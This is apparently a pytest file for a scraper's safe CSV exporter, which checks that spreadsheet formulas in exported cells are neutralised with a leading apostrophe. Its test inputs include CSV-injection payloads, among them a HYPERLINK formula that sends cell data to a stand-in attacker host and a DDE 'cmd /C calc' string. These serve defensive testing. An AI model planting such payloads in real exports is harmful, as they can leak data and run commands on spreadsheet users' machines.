"""CSV feeds for spreadsheets: no cell of theirs is a formula."""

from __future__ import annotations

import csv
import re
from decimal import Decimal
from html import escape
from importlib.resources import files
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any

import pytest
from crawling import crawl
from hypothesis import given
from hypothesis import strategies as st

from scrapy_treesim.crawl import feeds
from scrapy_treesim.crawl.feeds import SafeCsvItemExporter, plain_cell
from scrapy_treesim.items import RecordItem, RecordRow

LINK = '=HYPERLINK("https://evil.example/?"&A1,"Iron pan")'
FORMULAS = [
    LINK, "=1+1", "+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\tx",
    "\rx", " =1+1", "\n=1+1", "\xa0=1+1", "\u3000@A1", "\ufeff=1+1", "\u200b=1+1", "\x00=1+1",
    '"=1+1"', "'=1+1", ' "\' +A1', "+1+A1", "-1\n=1+1", "=", "@", "--1", "- one", "+49 (30) 1-A1",
    "\uff1d1+1", "\uff20A1", "\uff0b1+A1", "\uff0d1+A1",
    "\u034f=1+1", "\u180e=1+1", "\u2065=1+1", "\u2066=1+1", "\u206f=1+1",
    "\ufe00=1+1", "\ufe0f=1+1",
]  # fmt: skip
PLAIN = [
    "", "Iron pan", "-3.5", "+49 30 123456", "-20%", "- ", "-", "1-2", "a=b", "https://x.example/?a=b",
    "ann@example.com", "£64.00", "— she said", '"Yes," she said', "'Tis", "\u2212 3", "中文",
]  # fmt: skip
VALUES = [-3.5, -3, 0, True, None, Decimal("-3.5"), float("-inf")]
SAFE = {"csv": "scrapy_treesim.crawl.feeds.SafeCsvItemExporter"}


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_has_an_apostrophe_before_it(text: str) -> None:
    assert plain_cell(text) == f"'{text}"


@pytest.mark.parametrize("value", [*PLAIN, *VALUES])
def test_all_else_stays_as_it_is(value: Any) -> None:
    assert plain_cell(value) is value


def cells(written: bytes) -> list[str]:
    """All cells of a CSV file, those of its header too."""
    rows = csv.reader(StringIO(written.decode(), newline=""), strict=True)
    return [cell for row in rows for cell in row]


@given(st.text(st.sampled_from("=@+-\t\r\n \"'1.,;%aA(\ufeff\xa0\uff1d")))
def test_no_written_cell_begins_as_a_formula(text: str) -> None:
    file = BytesIO()
    exporter = SafeCsvItemExporter(file)
    exporter.export_item({text: text, "b": [text, "x"]})
    exporter.finish_exporting()
    written = cells(file.getvalue())
    assert len(written) == 4
    for cell in written:
        begins = cell.lstrip(" \t\r\"'\ufeff\xa0")
        assert cell.startswith("'") or begins[:1] not in tuple("=@\uff1d")
        number = re.fullmatch(r"[-+][0-9., ]*%?", begins)
        assert cell.startswith("'") or begins[:1] not in ("+", "-") or number


def test_the_inspector_has_the_same_expressions() -> None:
    script = files("scrapy_treesim").joinpath("inspector/static/export.js").read_text("utf-8")
    assert f"/{feeds.UNSEEN}/;" in script
    assert f"/{feeds.SIGN}/;" in script


# In a crawl


def shop(*names: str, column: str = "Weight") -> str:
    """A table of goods; each row has a name, a weight and a price below zero."""
    rows = "".join(
        f"<tr><td><a href='/p/{n}'>{escape(name)}</a></td><td>{n + 1} kg</td><td>-{n + 1}.50</td>"
        f"<td>€{n + 2}.50</td></tr>"
        for n, name in enumerate(names)
    )
    head = f"<tr><th>Name</th><th>{escape(column)}</th><th>Change</th><th>Price</th></tr>"
    return f"<html><body><h1>Goods</h1><table>{head}{rows}</table></body></html>"


NAMES = ("Iron pan", "Linen bag", "Oak board", "Steel knife", "Wool rug", "Clay pot")


async def exported(page: str, folder: Path, item: type, **chosen: Any) -> bytes:
    """The CSV file that a crawl of the page writes."""
    file, feed = folder / "page.html", folder / "goods.csv"
    file.write_text(page, "utf-8")
    options = {"format": "csv", "item_classes": [item], "overwrite": True}
    await crawl(
        file,
        TREESIM_KINDS=["records"],
        TREESIM_ITEMS="rows" if item is RecordRow else "items",
        FEEDS={feed.as_uri(): {**options, **chosen.pop("feed", {})}},
        **chosen,
    )
    return feed.read_bytes()


@pytest.mark.parametrize("item", [RecordItem, RecordRow])
async def test_a_crawl_exports_no_formula_of_a_page(item: type, tmp_path: Path) -> None:
    page = shop(*(f"{LINK[:-1]}&{n})" for n in range(6)), column="=cmd|' /C calc'!A0")
    own = await exported(page, tmp_path, item)
    assert any(cell.startswith("=HYPERLINK") for cell in cells(own))
    safe = await exported(page, tmp_path, item, FEED_EXPORTERS=SAFE)
    assert not [cell for cell in cells(safe) if plain_cell(cell) != cell and cell[0] != "'"]
    assert sum(cell.startswith("'=HYPERLINK") for cell in cells(safe)) >= 6
    by_name = {"FEED_EXPORTERS": {"plain": SAFE["csv"]}, "feed": {"format": "plain"}}
    assert await exported(page, tmp_path, item, **by_name) == safe


@pytest.mark.parametrize("item", [RecordItem, RecordRow])
async def test_other_files_are_the_same_to_the_byte(item: type, tmp_path: Path) -> None:
    own = await exported(shop(*NAMES), tmp_path, item)
    assert item is RecordItem or b",-3.50," in own
    assert await exported(shop(*NAMES), tmp_path, item, FEED_EXPORTERS=SAFE) == own
